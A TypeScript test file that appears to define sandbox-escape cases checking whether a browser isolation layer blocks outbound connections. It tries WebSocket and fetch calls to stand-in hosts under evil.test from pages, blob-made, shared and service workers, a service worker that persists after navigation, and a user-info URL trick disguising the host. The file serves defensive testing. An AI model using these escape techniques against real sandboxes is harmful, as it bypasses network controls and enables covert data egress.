import type { EscapeCase } from './escape-case.ts'
import { attempts, javascript, script } from './page-script.ts'

const category = 'worker-websocket'
const socket = (id: string) => `new WebSocket('wss://${id}.evil.test/x')`

export const workerWebsocketCases: readonly EscapeCase[] = [
  { id: 'WK-01', category, attack: 'WebSocket from the page', page: script(socket('wk-01')) },
  {
    id: 'WK-03',
    category,
    attack: 'WebSocket from a worker, and from one made of a blob',
    page: attempts(
      `new Worker('/atk/wk-03/worker.js')`,
      `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(socket('wk-03'))}])))`,
    ),
    parts: { 'worker.js': { headers: javascript, body: socket('wk-03') } },
  },
  {
    id: 'X-SHARED',
    category,
    attack: 'WebSocket from a shared worker, and from one made of a blob',
    page: attempts(
      `new SharedWorker('/atk/x-shared/worker.js')`,
      `new SharedWorker(URL.createObjectURL(new Blob([${JSON.stringify(socket('x-shared'))}])))`,
    ),
    parts: { 'worker.js': { headers: javascript, body: socket('x-shared') } },
  },
  {
    id: 'WK-05',
    category,
    attack: 'WebSocket from a service worker',
    page: script(`await navigator.serviceWorker.register('/atk/wk-05/sw.js')`),
    parts: { 'sw.js': { headers: javascript, body: socket('wk-05') } },
  },
  {
    id: 'WK-07',
    category,
    attack: 'fetch from a shared and from a service worker',
    page: attempts(
      `new SharedWorker('/atk/wk-07/worker.js')`,
      `await navigator.serviceWorker.register('/atk/wk-07/worker.js')`,
    ),
    parts: { 'worker.js': { headers: javascript, body: `fetch('https://wk-07.evil.test/x').catch(() => 0)` } },
  },
  {
    id: 'WK-09',
    category,
    attack: 'service worker that goes on when its page is left',
    alone: true,
    page: script(`await navigator.serviceWorker.register('/atk/wk-09/sw.js'); location = '/atk/wk-09/left'`),
    parts: {
      'sw.js': {
        headers: javascript,
        body: `addEventListener('activate', event => event.waitUntil(new Promise(go => setTimeout(go, 400))
          .then(() => fetch('https://wk-09.evil.test/x', { mode: 'no-cors' }))))
          addEventListener('install', () => skipWaiting())`,
      },
    },
  },
  {
    id: 'WK-11',
    category,
    attack: 'WebSocket to an approved name as user information',
    page: script(`new WebSocket('wss://good.test@wk-11.evil.test/x')`),
  },
]
